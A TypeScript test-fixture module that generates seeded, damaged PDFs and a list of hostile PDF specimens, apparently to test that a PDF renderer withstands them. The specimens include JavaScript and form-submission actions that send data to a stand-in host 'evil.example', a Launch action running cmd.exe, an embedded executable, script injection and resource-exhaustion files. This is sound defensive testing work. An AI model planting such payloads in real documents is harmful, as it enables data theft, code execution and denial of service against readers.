/** Damaged and hostile PDFs, the same in every run. */

/** mulberry32: small, seeded, good enough to break things. */
function dice(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

type Damage = (bytes: Buffer, roll: (below: number) => number) => Buffer;

const DAMAGES: Readonly<Record<string, Damage>> = {
  'bits flipped': (bytes, roll) => {
    for (let count = 1 + roll(200); count > 0; count--) {
      const at = roll(bytes.length);
      bytes[at] = (bytes[at] ?? 0) ^ (1 << roll(8));
    }
    return bytes;
  },
  'cut off': (bytes, roll) => bytes.subarray(0, roll(bytes.length)),
  'a range zeroed': (bytes, roll) => bytes.fill(0, roll(bytes.length), roll(bytes.length)),
  'a range of noise': (bytes, roll) => {
    const from = roll(bytes.length);
    for (let at = from; at < Math.min(bytes.length, from + roll(2_000)); at++) bytes[at] = roll(256);
    return bytes;
  },
  'digits changed': (bytes, roll) => {
    for (let count = 1 + roll(40); count > 0; count--) {
      const at = bytes.indexOf(String(roll(10)), roll(bytes.length));
      if (at >= 0) bytes[at] = 48 + roll(10);
    }
    return bytes;
  },
  'an object spliced into another': (bytes, roll) => {
    const starts = [...bytes.toString('latin1').matchAll(/\d+ 0 obj/g)].map(({ index }) => index);
    const [from, to] = [starts[roll(starts.length)] ?? 0, starts[roll(starts.length)] ?? 0];
    const piece = Buffer.from(bytes.subarray(from, from + 100 + roll(1_500)));
    return Buffer.concat([bytes.subarray(0, to), piece, bytes.subarray(to + roll(200))]);
  },
  'references crossed': (bytes, roll) => {
    const text = bytes.toString('latin1');
    const highest = (text.match(/\d+ 0 obj/g) ?? []).length;
    const crossed = text.replace(/\b\d+ 0 R/g, (whole) => (roll(12) === 0 ? `${1 + roll(highest)} 0 R` : whole));
    return Buffer.from(crossed, 'latin1');
  },
};

export interface Specimen {
  readonly name: string;
  readonly bytes: Buffer;
  /** Damages after which a page with text must still show. */
  readonly shows?: boolean;
}

/** `count` damaged copies of the originals, each damage in its turn. */
export function damaged(originals: readonly Buffer[], count: number): Specimen[] {
  const kinds = Object.entries(DAMAGES);
  return Array.from({ length: count }, (_, index) => {
    const [kind, damage] = kinds[index % kinds.length]!;
    const random = dice(index + 1);
    const original = originals[Math.floor(index / kinds.length) % originals.length]!;
    const bytes = damage(Buffer.from(original), (below) => Math.floor(random() * Math.max(1, below)));
    return { name: `${kind} (${index})`, bytes };
  });
}

/** A PDF of these objects, the first of which is the catalog. */
function pdf(objects: readonly string[], trailer = ''): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  text += `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${text.length}\n%%EOF`;
  return Buffer.from(text, 'latin1');
}

const stream = (content: string, entries = '') =>
  `<<${entries}/Length ${content.length}>>\nstream\n${content}\nendstream`;
const PAGE = '/Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]';
const ONE = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const HELLO = stream('BT /F1 24 Tf 40 200 Td (Hello) Tj ET');
const FONT = '/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>';
/** One page with the catalog's or the page's own entries, and more objects from number 5 on. */
const page = (catalog: string, own: string, ...more: readonly string[]) =>
  pdf([`<</Type/Catalog/Pages 2 0 R${catalog}>>`, ONE, `<<${PAGE}${FONT}/Contents 4 0 R${own}>>`, HELLO, ...more]);

/** One pattern that is used again and again, and painted each time. */
const PAINT_OFTEN = '/Pattern cs /P scn 0 0 300 300 re f '.repeat(40);
const pattern = (content: string, entries = '/Resources<<>>') =>
  stream(
    content,
    `/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 300 300]/XStep 300/YStep 300${entries}`,
  );

/** Nested transparency: each level needs a canvas as large as the page. */
function groups(depth: number): string[] {
  const within = (index: number) =>
    stream(
      index === depth ? '0 0 300 300 re f' : '/G gs /X Do',
      `/Type/XObject/Subtype/Form/BBox[0 0 300 300]/Group<</S/Transparency/I true>>` +
        `/Resources<</ExtGState<</G<</ca .5>>>>/XObject<</X ${index + 5} 0 R>>>>`,
    );
  const own = `${PAGE}/Resources<</ExtGState<</G<</ca .5>>>>/XObject<</X 5 0 R>>>>/Contents 4 0 R`;
  return [
    '<</Type/Catalog/Pages 2 0 R>>',
    ONE,
    `<<${own}>>`,
    stream('/G gs /X Do'),
    ...Array.from({ length: depth }, (_, index) => within(index + 1)),
  ];
}

const EVIL = 'https://evil.example/taken';
const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<<${action}>>>>]`;

/** Each attempts something different. `shows` marks those after which a page must still show. */
export function hostile(): (Specimen & { readonly shows: boolean })[] {
  const makes: [string, Buffer, boolean][] = [
    [
      'a script on opening',
      page('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\(\\{cURL:"' + EVIL + '"\\}\\))>>', ''),
      true,
    ],
    [
      'a script by name',
      page('/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL\\("' + EVIL + '"\\))>>]>>>>', ''),
      true,
    ],
    ['a script on the page', page('', '/AA<</O<</S/JavaScript/JS(app.alert\\(2\\))>>>>'), true],
    ['a program to launch', page('/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>', ''), true],
    ['an address to open', page(`/OpenAction<</S/URI/URI(${EVIL})>>`, ''), true],
    ['a link to elsewhere over the page', page('', link(`/S/URI/URI(${EVIL})`)), true],
    ['a link that is a script', page('', link('/S/URI/URI(javascript:alert\\(1\\))')), true],
    ['a form to submit', page('/OpenAction<</S/SubmitForm/F<</FS/URL/F(' + EVIL + ')>>>>', ''), true],
    ['a document elsewhere', page('/OpenAction<</S/GoToR/F(' + EVIL + '.pdf)/D[0/Fit]>>', ''), true],
    ['data to import', page('/OpenAction<</S/ImportData/F(' + EVIL + '.fdf)>>', ''), true],
    [
      'a form of XML',
      page(
        '/AcroForm<</XFA 5 0 R/Fields[]>>',
        '',
        stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>alert(1)</script></xdp:xdp>'),
      ),
      true,
    ],
    [
      'an embedded file',
      page('/Names<</EmbeddedFiles<</Names[(x.exe)<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>]>>>>', '', stream('MZ')),
      true,
    ],
    [
      'a picture from elsewhere',
      page(
        '',
        '/Resources<</XObject<</X 5 0 R>>>>',
        `<</Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceRGB/F<</FS/URL/F(${EVIL}.png)>>/Length 0>>\nstream\n\nendstream`,
      ),
      true,
    ],
    [
      'a page of 14 kilometres',
      pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        ONE,
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 40000000 40000000]/Contents 4 0 R>>',
        HELLO,
      ]),
      false,
    ],
    [
      'a page like a thread',
      pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        ONE,
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 9000000]/Contents 4 0 R>>',
        HELLO,
      ]),
      false,
    ],
    [
      'a page without size',
      pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        ONE,
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 0 0]/Contents 4 0 R>>',
        HELLO,
      ]),
      false,
    ],
    [
      'a picture of 400 megapixels',
      page(
        '',
        '/Resources<</XObject<</X 5 0 R>>>>/Contents 6 0 R',
        stream('', '/Type/XObject/Subtype/Image/Width 20000/Height 20000/BitsPerComponent 8/ColorSpace/DeviceRGB'),
        stream('300 0 0 300 0 0 cm /X Do'),
      ),
      false,
    ],
    ['no pages', pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']), false],
    [
      'a billion pages, they say',
      pdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[3 0 R]/Count 1000000000>>',
        `<<${PAGE}/Contents 4 0 R>>`,
        HELLO,
      ]),
      false,
    ],
    [
      'pages that hold themselves',
      pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>']),
      false,
    ],
    [
      'a form that draws itself',
      page(
        '',
        '/Resources<</XObject<</X 5 0 R>>>>/Contents 6 0 R',
        stream('/X Do', '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>'),
        stream('/X Do'),
      ),
      false,
    ],
    [
      'states saved within each other',
      page('', '/Contents 5 0 R', stream('q '.repeat(200_000) + 'Q '.repeat(200_000))),
      false,
    ],
    [
      'patterns painted with patterns',
      page(
        '',
        '/Resources<</Pattern<</P 5 0 R>>>>/Contents 10 0 R',
        ...[6, 7, 8, 9].map((next) => pattern(PAINT_OFTEN, `/Resources<</Pattern<</P ${next} 0 R>>>>`)),
        pattern('0 0 1 1 re f'),
        stream(PAINT_OFTEN),
      ),
      false,
    ],
    ['groups within groups', pdf(groups(400)), false],
    ['arrays a hundred thousand deep', page('', `/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`), false],
    [
      'a password',
      page('', '').length > 0
        ? pdf(
            [
              '<</Type/Catalog/Pages 2 0 R>>',
              ONE,
              `<<${PAGE}/Contents 4 0 R>>`,
              HELLO,
              `<</Filter/Standard/V 1/R 2/O<${'41'.repeat(32)}>/U<${'42'.repeat(32)}>/P -44>>`,
            ],
            '/Encrypt 5 0 R/ID[<00><00>]',
          )
        : Buffer.alloc(0),
      false,
    ],
    [
      'a stream that unpacks to itself',
      page(
        '',
        '/Contents 5 0 R',
        stream('xxx', '/Filter[/FlateDecode/FlateDecode/FlateDecode/LZWDecode/RunLengthDecode]'),
      ),
      false,
    ],
    ['a page of HTML', Buffer.from('<!doctype html><script>alert(1)</script>'), false],
    ['nothing at all', Buffer.alloc(0), false],
    ['a header and no more', Buffer.from('%PDF-1.7\n'), false],
  ];
  return makes.map(([name, bytes, shows]) => ({ name, bytes, shows }));
}
